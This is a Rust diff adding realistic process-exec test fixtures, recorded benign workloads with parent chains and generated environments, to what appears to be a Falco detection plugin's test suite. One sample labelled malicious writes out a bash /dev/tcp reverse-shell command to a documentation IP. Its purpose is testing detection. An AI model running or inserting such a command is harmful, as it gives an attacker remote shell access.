@@ -401,6 +401,592 @@ pub fn mix() -> Vec<Sample> {
     ]
 }
 
+/// One parent of a realistic exec, as the `threads` table holds it: comm, executable, and
+/// the arguments after argv[0].
+pub type Parent = (&'static str, &'static str, &'static [&'static str]);
+
+const SYSTEMD: Parent = ("systemd", "/usr/lib/systemd/systemd", &[]);
+const SSHD: Parent = ("sshd", "/usr/sbin/sshd", &["-D"]);
+/// An interactive login shell (`-bash`: argv[0] only).
+const LOGIN: Parent = ("bash", "/usr/bin/bash", &[]);
+
+/// One exec of a realistic workload: argv (argv[0] included), the executable, the working
+/// directory, the effective uid and the parents nearest first. The benign ones are rows of
+/// the recorded real work in `tests/corpus/recorded/` (the row is named), with the parents'
+/// comms of the row given their executables and arguments.
+#[derive(Debug, Clone, Copy)]
+pub struct RealisticExec {
+    pub name: &'static str,
+    pub malicious: bool,
+    pub argv: &'static [&'static str],
+    pub exe: &'static str,
+    pub cwd: &'static str,
+    pub uid: u32,
+    pub in_docker: bool,
+    pub parents: &'static [Parent],
+}
+
+const fn recorded(
+    name: &'static str,
+    argv: &'static [&'static str],
+    exe: &'static str,
+    cwd: &'static str,
+    parents: &'static [Parent],
+) -> RealisticExec {
+    RealisticExec {
+        name,
+        malicious: false,
+        argv,
+        exe,
+        cwd,
+        uid: 0,
+        in_docker: false,
+        parents,
+    }
+}
+
+const ADMIN_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/admin-work.sh",
+        "run",
+    ],
+);
+const APT_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/apt-install-remove.sh",
+        "run",
+    ],
+);
+const APT_GET: Parent = (
+    "apt-get",
+    "/usr/bin/apt-get",
+    &["install", "-y", "figlet", "sl", "tree"],
+);
+const DPKG: Parent = (
+    "dpkg",
+    "/usr/bin/dpkg",
+    &[
+        "--status-fd",
+        "37",
+        "--no-triggers",
+        "--unpack",
+        "--auto-deconfigure",
+        "/var/cache/apt/archives/figlet_2.2.5-3+b1_amd64.deb",
+    ],
+);
+const CARGO_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/cargo-build-tmp.sh",
+        "run",
+    ],
+);
+const CARGO: Parent = (
+    "cargo",
+    "/home/dev/.cargo/bin/cargo",
+    &["build", "--release"],
+);
+const RUSTC: Parent = (
+    "rustc",
+    "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
+    &[
+        "--crate-name",
+        "build_script_build",
+        "--edition=2021",
+        "build.rs",
+        "--crate-type",
+        "bin",
+        "--emit=dep-info,link",
+        "-C",
+        "opt-level=3",
+    ],
+);
+const ENTRY_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/entrypoint-probes.sh",
+        "run",
+    ],
+);
+const ENTRYPOINT: Parent = (
+    "docker-entrypoi",
+    "/tmp/rec-entry/docker-entrypoint.sh",
+    &["app"],
+);
+const GIT_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/git-hooks.sh",
+        "run",
+    ],
+);
+const GIT: Parent = (
+    "git",
+    "/usr/local/bin/git",
+    &["commit", "-q", "-m", "feat: add build script"],
+);
+const PRE_COMMIT: Parent = ("pre-commit", "/tmp/rec-git/repo/.git/hooks/pre-commit", &[]);
+const GO_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/go-build.sh",
+        "run",
+    ],
+);
+const GO: Parent = ("go", "/usr/bin/go", &["test", "./..."]);
+const NPM_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/npm-install-scripts.sh",
+        "run",
+    ],
+);
+const NODE_NPM: Parent = (
+    "node",
+    "/usr/bin/node",
+    &[
+        "/usr/bin/npm",
+        "install",
+        "--no-audit",
+        "--no-fund",
+        "esbuild",
+        "../hooks-pkg",
+    ],
+);
+const PIP_SH: Parent = (
+    "bash",
+    "/usr/bin/bash",
+    &[
+        "/home/dev/src/falco-triage/scripts/workloads/pip-sdist.sh",
+        "run",
+    ],
+);
+const PYTHON: Parent = (
+    "python3",
+    "/home/dev/.pyenv/versions/3.11.7/bin/python3.11",
+    &["-m", "pip", "install", "."],
+);
+
+/// The plain benign exec of [`realistic`]: `ls -la /etc` from an admin's script.
+const PLAIN: RealisticExec = recorded(
+    "admin-work-0002",
+    &["ls", "-la", "/etc"],
+    "/usr/bin/ls",
+    "/home/dev",
+    &[ADMIN_SH, LOGIN, SSHD, SYSTEMD],
+);
+
+/// The mix of [`realistic`]: three rows of each recorded workload.
+const RECORDED_MIX: &[RealisticExec] = &[
+    PLAIN,
+    recorded("admin-work-0013", &["systemctl", "status", "--no-pager", "cron"], "/usr/bin/systemctl", "/home/dev", &[ADMIN_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("admin-work-0010", &["ip", "addr"], "/usr/sbin/ip", "/home/dev", &[ADMIN_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("apt-install-remove-0003", &["/usr/bin/dpkg", "--print-foreign-architectures"], "/usr/bin/dpkg", "/home/dev", &[APT_GET, APT_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("apt-install-remove-0017", &["dpkg-deb", "--control", "/var/cache/apt/archives/figlet_2.2.5-3+b1_amd64.deb", "/var/lib/dpkg/tmp.ci"], "/usr/bin/dpkg-deb", "/", &[DPKG, APT_GET, APT_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("apt-install-remove-0024", &["rm", "-rf", "--", "/var/lib/dpkg/tmp.ci"], "/usr/bin/rm", "/", &[DPKG, APT_GET, APT_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded(
+        "cargo-build-tmp-0806",
+        &["/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", "--crate-name", "quote_use", "--edition=2021", "/home/dev/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/quote-use-0.8.4/src/lib.rs", "--error-format=json", "--json=diagnostic-rendered-ansi,artifacts,future-incompat", "--crate-type", "lib", "--emit=dep-info,metadata,link", "-C", "embed-bitcode=no", "--check-cfg", "cfg(docsrs,test)", "--check-cfg", "cfg(feature, values(\"syn\"))", "-C", "metadata=2f844c6bde2477b2", "-C", "extra-filename=-c42664ba0027d122", "--out-dir"],
+        "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
+        "/home/dev/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/quote-use-0.8.4",
+        &[CARGO, CARGO_SH, LOGIN, SSHD, SYSTEMD],
+    ),
+    recorded(
+        "cargo-build-tmp-0017",
+        &["cc", "-m64", "/tmp/build/falco-triage/target/release/build/quote-a021c4b4abb56ff8/rustc5BJFsW/symbols.o", "/tmp/build/falco-triage/target/release/build/quote-a021c4b4abb56ff8/build_script_build-a021c4b4abb56ff8.build_script_build.59e750e5ca019a74-cgu.0.rcgu.o", "/tmp/build/falco-triage/target/release/build/quote-a021c4b4abb56ff8/build_script_build-a021c4b4abb56ff8.dqsmgvghqb5xmu2wbvokmznhq.rcgu.o", "-Wl,--as-needed", "-Wl,-Bstatic"],
+        "/usr/bin/cc",
+        "/home/dev/.cargo/registry/src/index.crates.io-1949cf8c6b5b557f/quote-1.0.47",
+        &[RUSTC, CARGO, CARGO_SH, LOGIN, SSHD, SYSTEMD],
+    ),
+    recorded("cargo-build-tmp-0004", &["/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", "-vV"], "/home/dev/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc", "/tmp/build/falco-triage", &[CARGO, CARGO_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("entrypoint-probes-0004", &["envsubst", "${PORT} ${SERVER_NAME}"], "/usr/bin/envsubst", "/tmp/rec-entry", &[ENTRYPOINT, ENTRY_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("entrypoint-probes-0068", &["nc", "-z", "127.0.0.1", "18080"], "/usr/bin/nc", "/tmp/rec-entry", &[ENTRY_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("entrypoint-probes-0023", &["sh", "-c", "cat /tmp/rec-entry/etc/app.conf >/dev/null; echo app started"], "/usr/bin/sh", "/tmp/rec-entry", &[ENTRY_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("git-hooks-0002", &["git", "init", "-q", "-b", "main", "repo"], "/usr/local/bin/git", "/tmp/rec-git", &[GIT_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("git-hooks-0012", &["grep", "\\.sh$"], "/usr/bin/grep", "/tmp/rec-git/repo", &[PRE_COMMIT, PRE_COMMIT, GIT, GIT_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("git-hooks-0019", &["sh", "-n", "build.sh"], "/usr/bin/sh", "/tmp/rec-git/repo", &[PRE_COMMIT, GIT, GIT_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("go-build-0005", &["/usr/lib/go-1.19/pkg/tool/linux_amd64/compile", "-V=full"], "/usr/lib/go-1.19/pkg/tool/linux_amd64/compile", "/tmp/rec-go", &[GO, GO_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("go-build-0118", &["/tmp/go-build4200272538/b001/hello.test", "-test.testlogfile=/tmp/go-build4200272538/b001/testlog.txt", "-test.paniconexit0", "-test.timeout=10m0s"], "/tmp/go-build4200272538/b001/hello.test", "/tmp/rec-go", &[GO, GO_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("go-build-0002", &["go", "mod", "init", "example.com/hello"], "/usr/bin/go", "/tmp/rec-go", &[GO_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("npm-install-scripts-0025", &["sh", "-c", "node install.js"], "/usr/bin/sh", "/tmp/rec-npm/app/node_modules/esbuild", &[NODE_NPM, NPM_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("npm-install-scripts-0027", &["/tmp/rec-npm/app/node_modules/esbuild/bin/esbuild", "--version"], "/tmp/rec-npm/app/node_modules/esbuild/bin/esbuild", "/tmp/rec-npm/app/node_modules/esbuild", &[NODE_NPM, NPM_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("npm-install-scripts-0084", &["rm", "-rf", "node_modules"], "/usr/bin/rm", "/tmp/rec-npm/app", &[NPM_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("pip-sdist-0002", &["python3", "-m", "venv", "venv"], "/home/dev/.pyenv/shims/python3", "/tmp/rec-pip", &[PIP_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("pip-sdist-0224", &["lsb_release", "-a"], "/usr/bin/lsb_release", "/tmp/rec-pip/venv", &[PYTHON, PIP_SH, LOGIN, SSHD, SYSTEMD]),
+    recorded("pip-sdist-0175", &["basename", "/home/dev/.pyenv/versions/3.11.7"], "/usr/bin/basename", "/tmp/rec-pip", &[PIP_SH, LOGIN, SSHD, SYSTEMD]),
+];
+
+/// The attack of [`realistic`] (not recorded): a reverse shell spawned by a web application
+/// in a container.
+const ATTACK: RealisticExec = RealisticExec {
+    name: "bash /dev/tcp from a web app",
+    malicious: true,
+    argv: &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
+    exe: "/usr/bin/bash",
+    cwd: "/app",
+    uid: 33,
+    in_docker: true,
+    // The walk stops at the container's init (vpid 1), as in Falco.
+    parents: &[
+        ("node", "/usr/local/bin/node", &["/app/server.js"]),
+        ("tini", "/usr/bin/tini", &["--", "node", "/app/server.js"]),
+    ],
+};
+
+/// The environment of a realistic exec: what a login shell with a developer's tools passes
+/// on, 40-60 variables, 2-4 KiB, a long PATH, a `LS_COLORS` over 1 KiB and a few bytes that
+/// are not UTF-8 (a Latin-1 directory name). Generated, varied by `seed`, so every exec of a
+/// mix does not carry the same bytes.
+pub fn realistic_env(seed: usize) -> Vec<u8> {
+    const TOOLS: &[&str] = &[
+        "/home/dev/.cargo/bin",
+        "/home/dev/.local/bin",
+        "/home/dev/.pyenv/shims",
+        "/home/dev/.pyenv/bin",
+        "/home/dev/.nvm/versions/node/v20.11.1/bin",
+        "/home/dev/go/bin",
+        "/usr/local/go/bin",
+        "/opt/google-cloud-sdk/bin",
+        "/home/dev/.krew/bin",
+    ];
+    const SYSTEM_PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin";
+    const EXTENSIONS: &[&str] = &[
+        "tar",
+        "tgz",
+        "arc",
+        "arj",
+        "taz",
+        "lha",
+        "lz4",
+        "lzh",
+        "lzma",
+        "tlz",
+        "txz",
+        "tzo",
+        "t7z",
+        "zip",
+        "z",
+        "dz",
+        "gz",
+        "lrz",
+        "lz",
+        "lzo",
+        "xz",
+        "zst",
+        "tzst",
+        "bz2",
+        "bz",
+        "tbz",
+        "tbz2",
+        "tz",
+        "deb",
+        "rpm",
+        "jar",
+        "war",
+        "ear",
+        "sar",
+        "rar",
+        "alz",
+        "ace",
+        "zoo",
+        "cpio",
+        "7z",
+        "rz",
+        "cab",
+        "wim",
+        "swm",
+        "dwm",
+        "esd",
+        "avif",
+        "jpg",
+        "jpeg",
+        "mjpg",
+        "mjpeg",
+        "gif",
+        "bmp",
+        "pbm",
+        "pgm",
+        "ppm",
+        "tga",
+        "xbm",
+        "xpm",
+        "tif",
+        "tiff",
+        "png",
+        "svg",
+        "svgz",
+        "mng",
+        "pcx",
+        "mov",
+        "mpg",
+        "mpeg",
+        "m2v",
+        "mkv",
+        "webm",
+        "webp",
+        "ogm",
+        "mp4",
+        "m4v",
+        "mp4v",
+        "vob",
+        "qt",
+        "nuv",
+        "wmv",
+        "asf",
+        "rm",
+        "rmvb",
+        "flc",
+        "avi",
+        "fli",
+        "flv",
+        "gl",
+        "dl",
+        "xcf",
+        "xwd",
+        "yuv",
+        "cgm",
+        "emf",
+        "ogv",
+        "ogx",
+        "aac",
+        "au",
+        "flac",
+        "m4a",
+        "mid",
+        "midi",
+        "mka",
+        "mp3",
+        "mpc",
+        "ogg",
+        "ra",
+        "wav",
+        "oga",
+        "opus",
+        "spx",
+        "xspf",
+        "bak",
+        "crdownload",
+        "dpkg-dist",
+        "dpkg-new",
+        "dpkg-old",
+        "dpkg-tmp",
+        "old",
+        "orig",
+        "part",
+        "rej",
+        "swp",
+        "tmp",
+        "ucf-dist",
+        "ucf-new",
+        "ucf-old",
+    ];
+    let mut vars: Vec<Vec<u8>> = Vec::new();
+    let mut var = |s: String| vars.push(s.into_bytes());
+    let tools = 4 + seed % (TOOLS.len() - 3);
+    var(format!("PATH={}:{SYSTEM_PATH}", TOOLS[..tools].join(":")));
+    let colours = 100 + (seed * 7) % (EXTENSIONS.len() - 100);
+    let mut ls_colors = String::from("LS_COLORS=rs=0:di=01;34:ln=01;36:mh=00:pi=40;33:so=01;35:do=01;35:bd=40;33;01:cd=40;33;01:or=40;31;01:mi=00:su=37;41:sg=30;43:ca=00:tw=30;42:ow=34;42:st=37;44:ex=01;32");
+    for (i, ext) in EXTENSIONS[..colours].iter().enumerate() {
+        ls_colors.push_str(&format!(":*.{ext}=00;{}", 31 + i % 7));
+    }
+    var(ls_colors);
+    for fixed in [
+        "SHELL=/bin/bash",
+        "HOME=/home/dev",
+        "LOGNAME=dev",
+        "USER=dev",
+        "LANG=en_US.UTF-8",
+        "LANGUAGE=en_US:en",
+        "TERM=xterm-256color",
+        "COLORTERM=truecolor",
+        "SHLVL=2",
+        "XDG_SESSION_ID=7",
+        "XDG_SESSION_TYPE=tty",
+        "XDG_SESSION_CLASS=user",
+        "XDG_RUNTIME_DIR=/run/user/1000",
+        "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus",
+        "XDG_DATA_DIRS=/usr/local/share:/usr/share:/var/lib/snapd/desktop",
+        "SSH_CLIENT=192.0.2.10 51514 22",
+        "SSH_CONNECTION=192.0.2.10 51514 198.51.100.7 22",
+        "SSH_AUTH_SOCK=/tmp/ssh-XXXXq3Jd1k/agent.2211",
+        "MAIL=/var/mail/dev",
+        "LESSOPEN=| /usr/bin/lesspipe %s",
+        "LESSCLOSE=/usr/bin/lesspipe %s %s",
+        "EDITOR=vim",
+        "VISUAL=vim",
+        "PAGER=less",
+        "HISTCONTROL=ignoreboth",
+        "HISTSIZE=10000",
+        "HISTFILESIZE=20000",
+        "CARGO_HOME=/home/dev/.cargo",
+        "RUSTUP_HOME=/home/dev/.rustup",
+        "PYENV_ROOT=/home/dev/.pyenv",
+        "NVM_DIR=/home/dev/.nvm",
+        "GOPATH=/home/dev/go",
+        "JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64",
+        "KUBECONFIG=/home/dev/.kube/config",
+        "GPG_TTY=/dev/pts/0",
+        "MOTD_SHOWN=pam",
+        "TZ=Europe/Paris",
+    ] {
+        var(fixed.to_string());
+    }
+    let optional = [
+        "PWD=/home/dev/src/service".to_string(),
+        format!("_={}", "/usr/bin/env"),
+        "NODE_OPTIONS=--max-old-space-size=4096".into(),
+        "PIP_DISABLE_PIP_VERSION_CHECK=1".into(),
+        "DOCKER_BUILDKIT=1".into(),
+        "COMPOSE_PROJECT_NAME=service".into(),
+        "GOFLAGS=-mod=mod".into(),
+        "RUST_BACKTRACE=1".into(),
+        "npm_config_cache=/home/dev/.npm".into(),
+        "MANPATH=/home/dev/.nvm/versions/node/v20.11.1/share/man:/usr/local/man:/usr/share/man"
+            .into(),
+        "INFOPATH=/usr/local/share/info:/usr/share/info".into(),
+        "VIRTUAL_ENV=/home/dev/src/service/.venv".into(),
+        format!("TMUX=/tmp/tmux-1000/default,{},0", 2000 + seed),
+        format!("TMUX_PANE=%{}", seed % 9),
+        format!("WINDOWID={}", 41_943_000 + seed),
+        "CLOUDSDK_PYTHON=/usr/bin/python3".into(),
+        "HOSTNAME=build-7".into(),
+        "SSH_TTY=/dev/pts/0".into(),
+        "PROJECT_NAME=caf\u{e9}".into(),
+        "AWS_PROFILE=staging".into(),
+    ];
+    for extra in optional.iter().take(2 + seed % (optional.len() - 1)) {
+        var(extra.clone());
+    }
+    // Not UTF-8: a directory named in Latin-1 (0xe9 is é there).
+    vars.push(b"OLDPWD=/home/dev/projets/r\xe9sum\xe9s".to_vec());
+    let mut env = Vec::new();
+    for v in vars {
+        env.extend_from_slice(&v);
+        env.push(0);
+    }
+    env
+}
+
+/// The realistic events: a plain benign exec, a mix of recorded real work, and an attack,
+/// each with a realistic environment ([`realistic_env`]) and its parents in
+/// [`realistic_threads`] (tids from [`REALISTIC_TIDS`]), so the plugin walks them as it
+/// would walk libsinsp's `threads` table.
+pub struct Realistic {
+    pub plain: Sample,
+    pub mix: Vec<Sample>,
+    pub attack: Sample,
+}
+
+/// The first thread id of the realistic execs and their parents: exec `i` has tid
+/// `REALISTIC_TIDS + 16 i`, its parents the following tids, nearest first.
+pub const REALISTIC_TIDS: i64 = 20_000;
+
+/// Every exec of [`realistic`], in order: the mix (whose first is the plain one), then the
+/// attack.
+fn realistic_execs() -> impl Iterator<Item = &'static RealisticExec> {
+    RECORDED_MIX.iter().chain(std::iter::once(&ATTACK))
+}
+
+/// One row of the `threads` table for [`realistic`]'s execs and their parents.
+#[derive(Debug, Clone, Copy)]
+pub struct RealisticThread {
+    pub tid: i64,
+    pub ptid: i64,
+    /// The pid inside the process's pid namespace: 1 for a container's init.
+    pub vpid: i64,
+    /// comm, executable, arguments after argv[0].
+    pub process: Parent,
+    /// What the container plugin writes: the full container id, or `host`.
+    pub container_id: &'static str,
+}
+
+/// The `threads` table rows of [`realistic`]'s execs and their parents. The exec's own
+/// thread has a row, as in libsinsp, which updates it at the exec before plugins extract
+/// fields. A host chain ends at init: the parent before `systemd` has ptid 1 (the table's
+/// init). A container chain ends at the container's init (vpid 1), where the walk stops.
+pub fn realistic_threads() -> Vec<RealisticThread> {
+    let mut rows = Vec::new();
+    for (i, exec) in realistic_execs().enumerate() {
+        let base = REALISTIC_TIDS + 16 * i as i64;
+        let container_id = if exec.in_docker { CONTAINER_ID } else { "host" };
+        let (comm, args) = match exec.argv.split_first() {
+            Some((argv0, args)) => (argv0.rsplit('/').next().unwrap_or(argv0), args),
+            None => ("", &[][..]),
+        };
+        rows.push(RealisticThread {
+            tid: base,
+            ptid: base + 1,
+            vpid: base,
+            process: (comm, exec.exe, args),
+            container_id,
+        });
+        for (k, parent) in exec.parents.iter().enumerate() {
+            if parent.0 == "systemd" {
+                break;
+            }
+            let tid = base + 1 + k as i64;
+            let last = k + 1 == exec.parents.len();
+            let ptid = match exec.parents.get(k + 1) {
+                Some(next) if next.0 == "systemd" => 1,
+                Some(_) => tid + 1,
+                None => 0,
+            };
+            rows.push(RealisticThread {
+                tid,
+                ptid,
+                vpid: if exec.in_docker && last { 1 } else { tid },
+                process: *parent,
+                container_id,
+            });
+        }
+    }
+    rows
+}
+
+fn realistic_sample(i: usize, exec: &RealisticExec, limits: &DecodeLimits) -> Sample {
+    let tid = REALISTIC_TIDS + 16 * i as i64;
+    let mut event = ExecEvent::new(1, tid, tid + 1, exec.exe, exec.argv);
+    if exec.in_docker {
+        event = event.in_docker();
+    }
+    event.cwd = c_string(exec.cwd);
+    event.uid = exec.uid;
+    event.loginuid = if exec.in_docker { u32::MAX } else { 1000 };
+    event.env = realistic_env(i);
+    let ancestors = exec
+        .parents
+        .iter()
+        .map(|(comm, exe, args)| ancestor(comm, exe, args))
+        .collect();
+    sample(exec.name, exec.malicious, event, lineage(ancestors), limits)
+}
+
+/// The realistic events, decoded with the plugin's default limits. A sample's lineage is its
+/// whole parent chain; the plugin's walk of [`realistic_threads`] stops at its
+/// `lineage_depth` (5 by default).
+pub fn realistic() -> Realistic {
+    let limits = DecodeLimits::default();
+    let mix: Vec<Sample> = RECORDED_MIX
+        .iter()
+        .enumerate()
+        .map(|(i, exec)| realistic_sample(i, exec, &limits))
+        .collect();
+    Realistic {
+        plain: realistic_sample(0, &PLAIN, &limits),
+        attack: realistic_sample(RECORDED_MIX.len(), &ATTACK, &limits),
+        mix,
+    }
+}
+
 /// A long but ordinary `sh -c` maintenance pipeline (~40 stages, ~1.5 KiB).
 fn long_pipeline() -> String {
     let mut s = String::from("set -e; cd /var/log && ");
@@ -494,6 +1080,70 @@ mod tests {
         let bytes: usize = huge.facts.argv.iter().map(String::len).sum();
         assert!(bytes > 1_000_000 && !huge.facts.argv_truncated, "{bytes}");
         assert_eq!(classes[4].facts.argv[2].matches(" | ").count(), 9_999);
+    }
+
+    #[test]
+    fn realistic_environments_have_the_size_and_shape_of_real_ones() {
+        for seed in 0..64 {
+            let env = realistic_env(seed);
+            let vars: Vec<&[u8]> = env.split(|&b| b == 0).filter(|v| !v.is_empty()).collect();
+            assert!(
+                (40..=60).contains(&vars.len()),
+                "{seed}: {} variables",
+                vars.len()
+            );
+            assert!(
+                (2048..=4096).contains(&env.len()),
+                "{seed}: {} bytes",
+                env.len()
+            );
+            assert!(
+                vars.iter().any(|v| v.len() >= 1024),
+                "{seed}: no multi-KiB value"
+            );
+            assert!(
+                vars.iter().any(|v| std::str::from_utf8(v).is_err()),
+                "{seed}"
+            );
+            let path = vars
+                .iter()
+                .find(|v| v.starts_with(b"PATH="))
+                .map_or(0, |v| v.len());
+            assert!(path > 150, "{seed}: PATH of {path} bytes");
+        }
+    }
+
+    #[test]
+    fn realistic_execs_have_their_parents_in_the_table() {
+        let realistic = realistic();
+        assert_eq!(realistic.plain.facts.argv, realistic.mix[0].facts.argv);
+        assert!(realistic.attack.malicious && !realistic.mix.iter().any(|s| s.malicious));
+        let rows = realistic_threads();
+        for s in realistic.mix.iter().chain([&realistic.attack]) {
+            assert!(s.facts.env_count() >= 40, "{}", s.name);
+            assert!(
+                rows.iter().any(|r| r.tid == s.spec.tid),
+                "{}: no own row",
+                s.name
+            );
+            // The nearest parent is in the table, and the chain reaches init (ptid 1) or
+            // the container's init (vpid 1).
+            let mut tid = s.spec.ptid;
+            let mut depth = 0;
+            while tid != 1 {
+                let Some(row) = rows.iter().find(|r| r.tid == tid) else {
+                    panic!("{}: no row for tid {tid}", s.name)
+                };
+                assert_eq!(row.process.0, s.lineage.ancestors[depth].comm, "{}", s.name);
+                tid = row.ptid;
+                depth += 1;
+                if row.vpid == 1 {
+                    assert_eq!(depth, s.lineage.ancestors.len(), "{}", s.name);
+                    break;
+                }
+            }
+            assert!(depth >= 2, "{}: {depth} parents", s.name);
+        }
     }
 
     #[test]
